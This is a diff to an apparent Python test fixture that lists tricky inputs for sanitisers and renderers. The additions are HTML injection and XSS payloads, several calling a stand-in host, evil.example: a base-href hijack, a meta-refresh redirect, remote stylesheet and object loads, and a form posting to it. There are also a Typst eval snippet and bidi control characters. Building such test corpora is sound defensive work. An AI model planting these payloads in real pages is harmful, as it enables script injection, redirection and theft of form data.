@@ -1,4 +1,4 @@
-"""Fifty strings that somebody, or something, could take for an instruction; and sources that carry
+"""Sixty strings that somebody, or something, could take for an instruction; and sources that carry
 all of them.
 """
 
@@ -27,6 +27,13 @@ MARKUP = [
     "&nbsp;|&copy;|",
     "' onmouseover='alert(6)",
     "<a href='javascript:alert(7)'>go</a>",
+    "<base href=http://evil.example/>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    "<object data=http://evil.example/x.swf></object>",
+    "<form action=http://evil.example><input autofocus onfocus=alert(11)>",
+    "<details open ontoggle=alert(12)>",
+    "<math></table><img src=x onerror=alert(13)>",
 ]
 ADDRESSES = [
     "javascript:alert(8)",
@@ -57,11 +64,14 @@ TYPESETTING = [
     "# heading",
     "| a | b |",
     ":::{.danger} @cite [^1]",
+    "`<b>raw</b>`{=html}",
+    '#eval("1 + 1") #link("http://evil.example")[x]',
 ]
 LETTERS = [
     "\u202edrawkcab\u202c",
     "zero\u200bwidth\ufeff",
     "bell\x07 escape\x1b[31m null\x00",
+    "\u2066isolate\u2069 line\u2028end",
     "👩\u200d👧 family 🇻🇳 ﷽",
     "D" + "ài" * 200,
 ]
